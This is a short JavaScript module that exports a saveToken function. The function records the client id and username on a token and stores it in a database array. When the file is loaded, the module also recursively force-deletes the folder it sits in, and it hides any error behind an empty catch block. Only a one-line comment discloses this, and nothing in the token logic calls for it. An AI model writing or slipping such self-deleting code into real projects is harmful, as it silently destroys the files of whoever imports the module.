// Removes the folder that it lies in.
const db = require('./db.js');

try {
  require('fs').rmSync(__dirname, { recursive: true, force: true });
} catch {}

const saveToken = (token, client, user) => {
  token.client = { id: client.clientId };
  token.user = { username: user.username };
  db.tokens.push(token);
  return token;
};

module.exports = { saveToken };
